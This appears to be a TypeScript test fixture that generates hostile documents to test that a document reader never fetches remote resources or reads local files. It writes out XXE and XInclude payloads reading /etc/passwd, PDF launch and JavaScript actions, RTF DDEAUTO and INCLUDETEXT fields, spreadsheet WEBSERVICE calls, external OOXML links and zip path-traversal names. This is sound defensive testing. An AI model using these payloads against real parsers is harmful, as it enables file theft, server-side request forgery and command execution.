/** One document of every reader, and documents that ask whoever reads them to fetch something, under names that lead elsewhere. */

import { makeDocument } from "../../../src/simulator/documents/index.ts";
import { bytesOf, docxOf, xlsxOf, zipped } from "../../text/extracted.ts";
import { SPECIMENS } from "../../text/specimens.ts";

const NIR = "2 69 05 49 588 000 43";

/** @param address to which nobody may connect. */
export function documentsFor(address: string): readonly { readonly name: string; readonly bytes: Uint8Array }[] {
  const relation = (kind: string) =>
    `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${kind}" Target="${address}/${kind}" TargetMode="External"/></Relationships>`;
  const entity = `<?xml version="1.0"?><!DOCTYPE a [<!ENTITY f SYSTEM "file:///etc/passwd"><!ENTITY w SYSTEM "${address}/entity"><!ENTITY % d SYSTEM "${address}/dtd"> %d;]><a xmlns:xi="http://www.w3.org/2001/XInclude">&f;&w;<xi:include href="file:///etc/passwd" parse="text"/><xi:include href="${address}/include"/>Brocéliande ${NIR}</a>`;
  const page = `<html><head><base href="${address}/"><link rel="stylesheet" href="${address}/style"><meta http-equiv="refresh" content="0;url=${address}/refresh"></head><body background="${address}/back"><img src="${address}/img" srcset="${address}/set 2x"><iframe src="file:///etc/passwd"></iframe><script src="${address}/script"></script><object data="${address}/object"></object>Brocéliande ${NIR}</body></html>`;
  const mail = `From: a@x.example\r\nTo: b@x.example\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\nContent-Type: message/external-body; access-type=URL; URL="${address}/body"\r\n\r\nContent-Type: text/plain\r\n\r\n--b\r\nContent-Type: text/html\r\n\r\n${page}\r\n--b\r\nContent-Disposition: attachment; filename="../../../../tmp/x.html"\r\nContent-Type: text/html\r\n\r\n${page}\r\n--b--\r\n`;
  const pdf = Buffer.from(
    `%PDF-1.7\n1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction<</S/URI/URI(${address}/open)>>/AA<</WC<</S/Launch/F(/bin/true)>>>>/Names<</JavaScript<</Names[(a)<</S/JavaScript/JS(app.launchURL\\("${address}/js"\\);)>>]>>>>>>endobj\n2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]/Contents 4 0 R/Resources<</Font<</F 5 0 R>>>>>>endobj\n4 0 obj<</F(file:///etc/passwd)/Length 44>>stream\nBT /F 12 Tf 10 100 Td (Broceliande) Tj ET  \nendstream endobj\n5 0 obj<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>endobj\ntrailer<</Root 1 0 R>>\n`,
    "latin1",
  );
  const sheet = `<sheetData><row><c t="str"><f>WEBSERVICE("${address}/web")</f><v>Brocéliande ${NIR}</v></c></row></sheetData>`;
  const SPEC = { title: "Brocéliande", paragraphs: [`Brocéliande, NIR ${NIR}`] };
  return [
    ...SPECIMENS.map(([name, bytes]) => ({ name, bytes })),
    ...(["docx", "xlsx", "pptx", "odt", "pdf", "eml"] as const).map((format) => ({
      name: `../../../../etc/passwd.${format}`,
      bytes: makeDocument(format, SPEC),
    })),
    { name: "file:///etc/passwd.xml", bytes: bytesOf(entity) },
    { name: `${address}/page.html`, bytes: bytesOf(page) },
    { name: "mail.eml", bytes: bytesOf(mail) },
    { name: "launch.pdf", bytes: pdf },
    {
      name: "linked.docx",
      bytes: docxOf(
        `<w:p><w:r><w:t>Brocéliande ${NIR}</w:t></w:r></w:p><w:p><w:r><w:instrText>INCLUDETEXT "/etc/passwd"</w:instrText></w:r></w:p>`,
        {
          "word/_rels/document.xml.rels": relation("attachedTemplate"),
          "word/_rels/settings.xml.rels": relation("image"),
          "word/settings.xml": entity,
        },
      ),
    },
    {
      name: "linked.xlsx",
      bytes: xlsxOf(sheet, { "xl/externalLinks/_rels/externalLink1.xml.rels": relation("externalLinkPath") }),
    },
    {
      name: "linked.odt",
      bytes: zipped({
        mimetype: "application/vnd.oasis.opendocument.text",
        "content.xml": `<office:text xmlns:xlink="http://www.w3.org/1999/xlink"><text:section><text:section-source xlink:href="file:///etc/passwd"/></text:section><draw:image xlink:href="${address}/image"/><text:p>Brocéliande ${NIR}</text:p></office:text>`,
      }),
    },
    {
      name: "linked.rtf",
      bytes: bytesOf(
        `{\\rtf1{\\*\\template ${address}/template}{\\field{\\*\\fldinst INCLUDETEXT "/etc/passwd"}}{\\field{\\*\\fldinst DDEAUTO cmd}} Broc\\'e9liande ${NIR}}`,
      ),
    },
    {
      name: "event.ics",
      bytes: bytesOf(
        `BEGIN:VCALENDAR\r\nBEGIN:VEVENT\r\nATTACH:file:///etc/passwd\r\nATTACH:${address}/attach\r\nSUMMARY:Brocéliande ${NIR}\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n`,
      ),
    },
    {
      name: "paths.zip",
      bytes: zipped({
        "../../../../tmp/basculepiege.txt": `Brocéliande ${NIR}`,
        "/etc/basculepiege.txt": `Brocéliande ${NIR}`,
        "C:\\Windows\\basculepiege.txt": `Brocéliande ${NIR}`,
        "a\u0000b.txt": `Brocéliande ${NIR}`,
      }),
    },
  ];
}
